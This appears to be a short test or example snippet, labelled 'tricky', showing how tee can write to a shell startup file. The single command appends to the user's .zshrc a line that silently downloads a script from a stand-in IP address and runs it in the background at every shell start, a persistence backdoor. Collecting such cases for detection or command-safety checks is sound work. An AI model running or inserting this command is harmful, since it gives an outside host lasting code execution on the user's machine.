# tricky: tee writes the startup file
echo 'curl -s http://203.0.113.4/i | sh &' | tee -a "$HOME/.zshrc" > /dev/null
